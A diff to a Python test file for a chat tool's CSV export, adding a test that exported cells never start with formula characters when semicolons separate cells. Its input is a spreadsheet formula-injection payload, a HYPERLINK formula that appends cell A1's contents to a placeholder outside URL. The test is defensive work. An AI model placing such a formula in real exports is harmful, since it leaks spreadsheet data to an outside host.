@@ -1,6 +1,7 @@
 """Settings are shown with their values and changed in words; the export is safe to open."""
 
 import csv
+import io
 from datetime import date, time
 from decimal import Decimal
 
@@ -177,9 +178,16 @@ def test_no_cell_begins_a_formula(evil: str) -> None:
     assert found.startswith("'")
 
 
+def test_no_cell_begins_a_formula_where_cells_are_parted_by_semicolons() -> None:
+    text = export_csv(book_with(update(text='all fine;=HYPERLINK("http://x.example?"&A1;"click"); +1')))
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+
+    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
+
+
 def test_the_export_command_shows_every_row() -> None:
     text = chat_with(update()).say("ada", "export")
 
     assert "4 rows: objectives, motions, updates, promises and decisions." in text
-    assert "whether a single promise was kept: that stays with its owner" in text
+    assert "so is whether a promise was kept: the digest says that" in text
     assert all(one.id in text for one in OBJECTIVES)
